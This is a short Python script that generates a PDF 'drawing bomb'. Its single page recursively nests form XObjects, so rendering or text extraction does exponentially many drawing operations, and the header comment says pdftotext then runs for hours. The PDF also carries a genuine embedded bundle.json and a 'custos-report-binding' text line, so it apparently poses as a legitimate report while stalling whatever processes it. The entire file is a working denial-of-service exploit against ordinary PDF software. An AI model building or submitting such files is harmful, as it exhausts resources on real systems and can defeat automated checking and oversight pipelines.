# A small PDF report whose page 1 nests form XObjects LEVELS deep, FAN copies at each level
# (FAN**LEVELS drawing operations: pdftotext runs for hours), with a genuine bundle attached.
# python3 pdf-drawing-bomb.py BUNDLE OUT LEVELS FAN
import sys
bundle=open(sys.argv[1],'rb').read()
out=sys.argv[2]
levels=int(sys.argv[3]); fan=int(sys.argv[4])
objs={}
objs[1]=b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 10 0 R >> >>"
objs[2]=b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
objs[3]=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /X 20 0 R >> /Font << /F1 6 0 R >> >> /Contents 5 0 R >>"
def stream(d, body):
    return d + b" /Length %d >>\nstream\n" % len(body) + body + b"\nendstream"
objs[5]=stream(b"<<", b"BT /F1 12 Tf 72 720 Td (custos-report-binding: 2) Tj ET /X Do")
objs[6]=b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
objs[10]=b"<< /Names [(bundle.json) 11 0 R] >>"
objs[11]=b"<< /Type /Filespec /F (bundle.json) /UF (bundle.json) /EF << /F 12 0 R >> >>"
objs[12]=stream(b"<< /Type /EmbeddedFile", bundle)
for k in range(levels):
    n=20+k
    if k==levels-1:
        body=b"BT /F1 1 Tf 0 0 Td (x) Tj ET"
        res=b"/Font << /F1 6 0 R >>"
    else:
        body=b" ".join([b"/Y Do"]*fan)
        res=b"/XObject << /Y %d 0 R >>" % (n+1)
    objs[n]=stream(b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >>" % res, body)
buf=bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
offs={}
for n in sorted(objs):
    offs[n]=len(buf)
    buf+=b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
mx=max(objs)+1
x=len(buf)
buf+=b"xref\n0 %d\n" % mx
buf+=b"0000000000 65535 f \n"
for n in range(1,mx):
    if n in offs: buf+=b"%010d 00000 n \n" % offs[n]
    else: buf+=b"0000000000 65535 f \n"
buf+=b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (mx, x)
open(out,'wb').write(buf)
